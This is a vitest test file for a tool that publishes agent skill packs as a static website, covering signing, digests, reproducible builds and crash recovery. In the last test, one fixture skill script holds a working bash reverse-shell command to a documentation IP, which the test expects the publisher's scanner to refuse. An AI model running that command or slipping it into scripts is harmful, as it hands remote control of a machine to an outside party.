import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';

import { skillsToPack } from '../../../src/packs/pack/pack.ts';
import { isRefusal, type PackRefusal } from '../../../src/packs/problems.ts';
import { openPinnedKeys } from '../../../src/packs/sign/keys.ts';
import { makeKey, openSecretKey } from '../../../src/packs/sign/minisign.ts';
import { buildSite, type BuildSiteOptions, type BuiltSite } from '../../../src/packs/site/build-site.ts';
import { verifies } from '../../conformance/verifies.ts';
import { openSite, type Site } from '../../project/network/network-world.ts';
import { AT, packWorld, type PackWorld } from '../support.ts';

async function publish(
  world: PackWorld,
  more: Partial<BuildSiteOptions> = {},
): Promise<BuiltSite | readonly PackRefusal[]> {
  const skills = skillsToPack(path.join(world.project, 'source'));
  if ('type' in skills) throw new Error(skills.message);
  return buildSite({ settings: world.settings, skills, out: path.join(world.project, 'site'), title: 'Team', ...more });
}

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((file) => statSync(path.join(folder, file)).isFile())
    .toSorted();
}

/** Serves a folder on loopback, as any host of static files does. */
function serve(folder: string): Promise<Site> {
  return openSite(({ url = '' }, response) => {
    const file = path.join(folder, decodeURIComponent(url));
    if (existsSync(file) && statSync(file).isFile()) response.end(readFileSync(file));
    else response.writeHead(404).end();
  });
}

const sha256 = (file: string): string => createHash('sha256').update(readFileSync(file)).digest('hex');

describe('a published site', () => {
  verifies(['INST-4', 'PACK-6'], 'is what install reads: the same files arrive, with the same digest', async () => {
    const author = packWorld();
    author.skill('source/tables', { 'scripts/x.sh': '#!/bin/sh\n', 'references/a.md': 'x\n' });
    author.skill('source/letters');
    const built = await publish(author);
    expect(built).toMatchObject({
      type: 'built-site',
      skills: [
        { name: 'letters', page: 'skills/letters/index.html', pack: 'packs/letters.zip' },
        { name: 'tables', page: 'skills/tables/index.html', pack: 'packs/tables.zip' },
      ],
    });
    const site = path.join(author.project, 'site');
    expect(filesIn(site)).toEqual([
      '.nojekyll',
      '.skillwright-site',
      '.well-known/agent-skills/index.json',
      '.well-known/agent-skills/letters/SKILL.md',
      '.well-known/agent-skills/tables.zip',
      '_headers',
      'index.html',
      'packs/letters.zip',
      'packs/tables.zip',
      'skills/letters/index.html',
      'skills/tables/index.html',
    ]);
    expect(JSON.parse(readFileSync(path.join(site, '.well-known/agent-skills/index.json'), 'utf8'))).toEqual({
      $schema: 'https://schemas.agentskills.io/discovery/0.2.0/schema.json',
      skills: [
        {
          name: 'letters',
          type: 'skill-md',
          description: 'Works on letters. Use it for letters.',
          url: 'letters/SKILL.md',
          digest: `sha256:${sha256(path.join(author.project, 'source/letters/SKILL.md'))}`,
        },
        {
          name: 'tables',
          type: 'archive',
          description: 'Works on tables. Use it for tables.',
          url: 'tables.zip',
          digest: `sha256:${sha256(path.join(site, '.well-known/agent-skills/tables.zip'))}`,
        },
      ],
    });

    const user = packWorld();
    const { origin } = await serve(site);
    const digests = 'type' in built ? built.skills.map(({ name, digest }) => ({ skill: { name, digest } })) : [];
    expect(await user.install(origin)).toMatchObject({ isDone: true, plan: { skills: digests } });
    expect(filesIn(path.join(user.root, 'tables'))).toEqual(['SKILL.md', 'references/a.md', 'scripts/x.sh']);
    expect(statSync(path.join(user.root, 'tables/scripts/x.sh')).mode & 0o111).not.toBe(0);
  });

  test('with a key has packs and skills whose signatures install verifies', async () => {
    const author = packWorld();
    author.skill('source/tables', {}, ['metadata:', '  version: "1.2.0"']);
    author.skill('source/letters', { 'references/a.md': 'x\n' }, ['metadata:', '  version: "2.0.0"']);
    const made = await makeKey();
    const key = await openSecretKey(made.secretText);
    if (key.type !== 'signing-key') throw new Error(key.reason);
    expect(await publish(author, { key, now: AT })).toMatchObject({ keyId: made.id });
    const site = path.join(author.project, 'site');
    expect(readFileSync(path.join(site, 'index.html'), 'utf8')).toContain(made.publicText.trim().split('\n').at(-1));

    const user = packWorld({ install: { require_signed: true } });
    const { origin } = await serve(site);
    expect(await user.install(`${origin}/packs/tables-1.2.0.zip`)).toMatchObject({ code: 'signature/unknown-key' });
    await openPinnedKeys({ home: user.home }).add('team', made.publicText);
    expect(await user.install(`${origin}/packs/tables-1.2.0.zip`)).toMatchObject({
      isDone: true,
      plan: { signedBy: made.id },
    });

    // The skills of the index: one is a file, the other an archive. An invalid signature refuses its skill alone.
    const { origin: other } = await serve(site);
    const second = packWorld({ install: { require_signed: true } });
    expect(await second.install(other)).toMatchObject({ code: 'signature/unknown-key' });
    await openPinnedKeys({ home: second.home }).add('team', made.publicText);
    const letters = path.join(site, '.well-known/agent-skills/letters.zip.minisig');
    const signature = readFileSync(letters, 'utf8');
    writeFileSync(letters, readFileSync(path.join(site, '.well-known/agent-skills/tables/SKILL.md.minisig')));
    expect(await second.install(other)).toMatchObject({
      plan: {
        skills: [{ lock: { name: 'tables', signedBy: made.id } }],
        refused: [{ name: 'letters', refusal: { code: 'signature/invalid' } }],
      },
    });
    writeFileSync(letters, signature);
    expect(await second.install(other, { skills: ['letters'] })).toMatchObject({ plan: { signedBy: made.id } });
    // Unsigned, it must not replace the signed one.
    const index = path.join(site, '.well-known/agent-skills/index.json');
    writeFileSync(index, readFileSync(index, 'utf8').replaceAll(/,\s*"signature": "[^"]*"/g, ''));
    const third = packWorld();
    expect(await third.install(other)).toMatchObject({ isDone: true });
    expect(await second.install(other)).toMatchObject({ code: 'signature/missing' });
  });

  test('recovers the old site after a kill between its two renames', async () => {
    const author = packWorld();
    author.skill('source/tables');
    await publish(author);
    const site = path.join(author.project, 'site');
    const old = path.join(author.project, '.site.1abc.old');
    renameSync(site, old);
    author.skill('source/Wrong');
    expect(await publish(author)).toMatchObject([{ code: 'pack/name' }]);
    expect(readdirSync(path.join(site, 'skills'))).toEqual(['tables']);
    rmSync(path.join(author.project, 'source/Wrong'), { recursive: true });
    cpSync(site, old, { recursive: true });
    await publish(author);
    expect(readdirSync(author.project).toSorted()).toEqual(['.git', 'site', 'source']);
  });

  test('is the same bytes every time, and replaces an earlier site whole', async () => {
    const author = packWorld();
    author.skill('source/tables');
    await publish(author);
    const site = path.join(author.project, 'site');
    const first = filesIn(site).map((file) => [file, sha256(path.join(site, file))]);
    await publish(author);
    expect(filesIn(site).map((file) => [file, sha256(path.join(site, file))])).toEqual(first);
    author.skill('source/letters');
    await publish(author);
    expect(readdirSync(path.join(site, 'skills'))).toEqual(['letters', 'tables']);
    expect(readdirSync(author.project).toSorted()).toEqual(['.git', 'site', 'source']);
  });

  test('what others put into the folder of a site stays, also after a kill, and is never overwritten', async () => {
    const author = packWorld();
    author.skill('source/tables');
    await publish(author);
    const site = path.join(author.project, 'site');
    const own = {
      CNAME: 'skills.example.com',
      '.git/HEAD': 'ref: refs/heads/main',
      'photos/a.txt': 'mine',
      '.well-known/security.txt': 'Contact: mailto:me@example.com',
      'skills/tables/notes.txt': 'notes',
    };
    const put = (folder: string): void => {
      for (const [name, text] of Object.entries(own)) {
        mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
        writeFileSync(path.join(folder, name), text);
      }
    };
    const seen = (): object =>
      Object.fromEntries(Object.keys(own).map((name) => [name, readFileSync(path.join(site, name), 'utf8')]));
    put(site);
    rmSync(path.join(author.project, 'source/tables'), { recursive: true });
    author.skill('source/letters');
    await publish(author);
    expect(seen()).toEqual(own);
    expect(filesIn(path.join(site, 'skills'))).toEqual(['letters/index.html', 'tables/notes.txt']);

    // Killed after the new site was in its place.
    const old = path.join(author.project, '.site.1abc.old');
    cpSync(site, old, { recursive: true });
    for (const name of ['CNAME', '.git', 'photos', 'skills/tables']) rmSync(path.join(site, name), { recursive: true });
    rmSync(path.join(site, '.well-known/security.txt'));
    await publish(author);
    expect(seen()).toEqual(own);
    expect(readdirSync(author.project).toSorted()).toEqual(['.git', 'site', 'source']);

    author.skill('source/photos');
    writeFileSync(path.join(site, 'skills/photos'), 'a file where the new site has a folder');
    expect(await publish(author)).toMatchObject([
      {
        code: 'pack/exists',
        message: expect.stringContaining('is not of the earlier site, and the new one has it too'),
      },
    ]);
    expect(seen()).toEqual(own);
    expect(readFileSync(path.join(site, 'skills/photos'), 'utf8')).toContain('a file where');
  });

  test('a site of a version that kept no list of its files keeps what is not ours at its top', async () => {
    const author = packWorld();
    author.skill('source/tables');
    await publish(author);
    const site = path.join(author.project, 'site');
    writeFileSync(path.join(site, '.skillwright-site'), 'skillwright site replaces this folder.\n');
    writeFileSync(path.join(site, 'CNAME'), 'skills.example.com');
    rmSync(path.join(author.project, 'source/tables'), { recursive: true });
    author.skill('source/letters');
    await publish(author);
    expect([readdirSync(path.join(site, 'skills')), readFileSync(path.join(site, 'CNAME'), 'utf8')]).toEqual([
      ['letters'],
      'skills.example.com',
    ]);
  });

  test('never replaces a folder that is something else', async () => {
    const author = packWorld();
    author.skill('source/tables');
    mkdirSync(path.join(author.project, 'site'));
    writeFileSync(path.join(author.project, 'site/mine.txt'), 'mine');
    expect(await publish(author)).toMatchObject([{ code: 'pack/exists' }]);
    expect(filesIn(path.join(author.project, 'site'))).toEqual(['mine.txt']);
  });

  test('is refused for every skill that cannot be published, and the old site stays', async () => {
    const author = packWorld();
    author.skill('source/tables');
    await publish(author);
    author.skill('source/shell', { 'x.sh': 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' });
    author.skill('source/Wrong');
    const refused = await publish(author);
    if ('type' in refused) throw new Error('published');
    expect(refused.map(({ code }) => code).toSorted()).toEqual(['pack/name', 'pack/scan']);
    expect(refused.find(({ code }) => code === 'pack/scan')?.hint).toMatch(/ --accept reverse-shell$/);
    expect(readdirSync(path.join(author.project, 'site/skills'))).toEqual(['tables']);
    expect(isRefusal(refused[0] ?? {})).toBe(true);
  });
});
